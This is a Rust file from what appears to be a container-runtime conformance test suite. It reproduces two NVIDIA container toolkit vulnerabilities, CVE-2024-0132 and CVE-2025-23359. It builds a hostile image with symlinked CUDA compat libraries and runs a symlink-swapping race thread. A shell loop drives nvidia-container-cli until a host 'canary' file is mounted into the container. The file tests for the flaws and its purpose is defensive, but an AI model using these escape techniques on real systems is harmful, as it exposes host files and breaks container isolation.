//! CVE-2024-0132 and CVE-2025-23359: libraries that the image brings and that were mounted among the driver's, each by
//! a path that had been looked at before. The image sees to it that the path leads elsewhere by then.

use crate::attack::{Attack, Report};
use crate::road::{self, Road, Wanted};
use crate::target::{Kind, Target};
use libtest_mimic::Failed;
use liftgate_conformance::hostile::{Scene, Spoiling, gpus};
use std::fs;
use std::io;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};

const COMPAT: &str = "usr/local/cuda/compat";
const LIBRARIES: &str = "usr/lib/x86_64-linux-gnu";
const FIRST: &str = "libcuda.so.1";
const SECOND: &str = "libnvidia-ptxjitcompiler.so.1";

/// The first library is a directory. Mounted among the driver's, it covers the one in which the second lies; and what
/// lies there under the second's name is a link out.
fn one_mount_moves_the_next(image: &Spoiling<'_>) -> io::Result<()> {
    // That is how the reference was told where the image has its libraries.
    image.file("etc/debian_version", "12\n")?;
    fs::create_dir_all(image.at(LIBRARIES).join(FIRST))?;
    image.file(&format!("{LIBRARIES}/{FIRST}/{SECOND}"), "")?;
    image.link_out(&format!("opt/trap/{FIRST}/{SECOND}"), "")?;
    image.link(&format!("{COMPAT}/{FIRST}"), format!("/opt/trap/{FIRST}"))?;
    image.link(
        &format!("{COMPAT}/{SECOND}"),
        format!("/{LIBRARIES}/{FIRST}/{SECOND}"),
    )
}

/// What the container then finds of the host's.
const SHOW: &str = "cat /usr/lib/x86_64-linux-gnu/libnvidia-ptxjitcompiler.so.1/ld.so.conf";

pub(crate) fn attacks() -> Vec<Attack> {
    let mut attacks = Vec::new();
    for road in [Road::Runtime, Road::PrestartHook, Road::Configure] {
        let is_configure = matches!(road, Road::Configure);
        let name = format!("CVE-2024-0132/{}/one-mount-moves-the-next", road.name());
        let attack = Attack::new(name, "ubuntu-550", move |scene, target| {
            road::attack(
                scene,
                target,
                &road,
                Wanted::Gpu,
                SHOW,
                one_mount_moves_the_next,
            )
        })
        .bites("mounts-from-image")
        .contained(true);
        attacks.push(if is_configure {
            attack.bit("libnvidia-container")
        } else {
            attack
        });
    }
    attacks.push(
        Attack::new(
            "CVE-2025-23359/configure/library-is-swapped-for-a-link",
            "ubuntu-550",
            race,
        )
        .bites("mounts-after-look")
        .contained(true)
        .bit("libnvidia-container"),
    );
    attacks
}

/// The same container many times, until something of the canary's is mounted in it.
const MANY_RUNS: &str = r#"
mkfifo "$BUNDLE/ready"
: > "$BUNDLE/racing"
number=0
while [ $number -lt "$RUNS" ] && [ ! -e "$BUNDLE/bitten" ]; do
  unshare --mount --propagation private /bin/sh -c '
    mount --bind "$BUNDLE/rootfs" "$BUNDLE/rootfs"
    mount -t proc proc "$BUNDLE/rootfs/proc"
    mount --bind /proc/driver "$BUNDLE/rootfs/proc/driver"
    mount -t tmpfs -o mode=755 tmpfs "$BUNDLE/rootfs/dev"
    echo > "$BUNDLE/ready"
    exec sleep 60' < /dev/null > /dev/null 2>&1 &
  pid=$!
  read line < "$BUNDLE/ready"
  timeout -k 1 20 "$CLI" --load-kmods configure --pid=$pid --ldconfig=@/sbin/ldconfig --device=all --compute --utility \
    --no-cgroups --cuda-compat-mode=mount "$BUNDLE/rootfs" 2>> "$BUNDLE/words"
  echo $?
  while read -r id parent device source rest; do
    case $source in
      */rootfs/*) ;;
      *"$CANARY"/*) echo "$id $parent $device $source $rest" > "$BUNDLE/bitten" ;;
    esac
  done < /proc/$pid/mountinfo
  kill $pid
  number=$((number + 1))
done | sort | uniq -c
"#;

/// As many as that it would have bitten, on what it must not bite; elsewhere it ends when it has.
const RUNS: u64 = 50;
const MOST_RUNS: u64 = 600;

/// In the canary.
const TARGET: &str = "lib64/libcuda.so.580.159.04";

/// The more there are, the sooner one is met.
const LIBRARIES_SWAPPED: [&str; 6] = [
    "libcuda.so.999.1.1",
    "libcudadebugger.so.999.1.1",
    "libnvidia-nvvm.so.999.1.1",
    "libnvidia-opencl.so.999.1.1",
    "libnvidia-ptxjitcompiler.so.999.1.1",
    "libnvidia-ptxjitcompiler.so.999.1.2",
];

fn race(scene: &Scene, target: &Target) -> Result<Report, Failed> {
    let bundle = scene.bundle(&gpus("true"))?;
    let compat = bundle.root().join(COMPAT);
    fs::create_dir_all(&compat)?;
    fs::write(bundle.root().join("etc/debian_version"), "12\n")?;
    // Where the link leads to inside, so that looking at it is no error.
    let out = scene.canary.path().join(TARGET);
    let inside = bundle.root().join(out.strip_prefix("/").unwrap_or(&out));
    fs::create_dir_all(inside.parent().unwrap_or(&inside))?;
    fs::write(&inside, "")?;
    let swapping = Swapping::start(scene, compat)?;
    let runs = match target.kind {
        Kind::Shipped | Kind::Contained => RUNS,
        Kind::Weakened | Kind::Old => MOST_RUNS,
    };
    let name = scene.canary.path().file_name().unwrap_or_default();
    let variables = [
        ("RUNS", runs.to_string()),
        ("CANARY", name.to_string_lossy().into_owned()),
        (
            "CLI",
            target.named("nvidia-container-cli").display().to_string(),
        ),
    ];
    let output = scene.on_machine(MANY_RUNS, &[], &variables);
    let swaps = swapping.stop();
    let output = output?;
    let words = fs::read_to_string(scene.place.join("words")).unwrap_or_default();
    let ends = String::from_utf8_lossy(&output.stdout).into_owned();
    let mut report = Report {
        account: format!(
            "{swaps} swaps; runs by exit status:\n{ends}{}",
            words.chars().take(2000).collect::<String>()
        ),
        ..Report::default()
    };
    if let Ok(found) = fs::read_to_string(scene.place.join("bitten")) {
        report
            .harm
            .push(format!("the host's file is mounted: {found}"));
    }
    if swaps < 10 * runs {
        report.faults.push("too few swaps to be a race".to_owned());
    }
    if ends.trim() != format!("{runs} 0") {
        report.faults.push("not every run succeeded".to_owned());
    }
    report.look_at(scene, target)?;
    Ok(report)
}

/// A thread that puts a file and a link out into the same place, in turn and each in one step.
struct Swapping {
    is_over: Arc<AtomicBool>,
    swaps: Arc<AtomicU64>,
    thread: std::thread::JoinHandle<()>,
}

impl Swapping {
    fn start(scene: &Scene, compat: PathBuf) -> io::Result<Self> {
        let library = scene.place.join("library");
        fs::write(&library, "")?;
        let out = scene.canary.path().join(TARGET);
        let (is_over, swaps) = (
            Arc::new(AtomicBool::new(false)),
            Arc::new(AtomicU64::new(0)),
        );
        let (over, count) = (Arc::clone(&is_over), Arc::clone(&swaps));
        let begin = scene.place.join("racing");
        let beside = compat.join("beside");
        let thread = std::thread::spawn(move || {
            while !begin.exists() && !over.load(Ordering::Relaxed) {
                std::thread::yield_now();
            }
            // Each in one step, and long enough to be met.
            let put = |made: io::Result<()>, place: &Path| {
                let is_put = made.and_then(|()| fs::rename(&beside, place)).is_ok();
                if !is_put {
                    fs::remove_file(&beside).ok();
                }
                for _ in 0..500 {
                    std::hint::spin_loop();
                }
                is_put
            };
            while !over.load(Ordering::Relaxed) {
                for name in LIBRARIES_SWAPPED {
                    let place = compat.join(name);
                    let is_swapped = put(fs::hard_link(&library, &beside), &place)
                        && put(symlink(&out, &beside), &place);
                    count.fetch_add(u64::from(is_swapped), Ordering::Relaxed);
                }
            }
        });
        Ok(Self {
            is_over,
            swaps,
            thread,
        })
    }

    fn stop(self) -> u64 {
        self.is_over.store(true, Ordering::Relaxed);
        self.thread.join().ok();
        self.swaps.load(Ordering::Relaxed)
    }
}
